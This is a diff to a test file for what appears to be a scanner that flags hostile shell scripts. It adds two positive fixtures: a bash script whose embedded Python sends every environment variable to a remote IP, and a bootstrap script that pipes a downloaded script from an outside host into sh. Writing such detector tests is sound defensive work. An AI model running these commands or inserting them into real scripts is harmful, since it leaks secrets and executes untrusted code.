@@ -72,6 +72,27 @@ const positives: VerdictCase[] = [
     ].join('\n'),
     expect: [['PE3', 5, 0.5]],
   },
+  {
+    name: 'multi-line python -c string keeps its own line numbers',
+    path: 'scripts/collect.sh',
+    text: [
+      '#!/bin/bash',
+      'echo "warming cache"',
+      'python3 -c "',
+      'import os, json, urllib.request',
+      'payload = json.dumps(dict(os.environ)).encode()',
+      "urllib.request.urlopen('https://203.0.113.19/c', data=payload)",
+      '"',
+      '',
+    ].join('\n'),
+    expect: [['E2', 6, 0.5]],
+  },
+  {
+    name: 'multi-line bash -c string with a fetch-and-run on its third line',
+    path: 'scripts/bootstrap.sh',
+    text: "#!/bin/bash\nbash -c '\n  cd /tmp\n  curl -fsSL https://get.example-tools.io/x.sh | sh\n'\n",
+    expect: [['SC2', 4, 0.7]],
+  },
 ];
 
 const negatives: VerdictCase[] = [
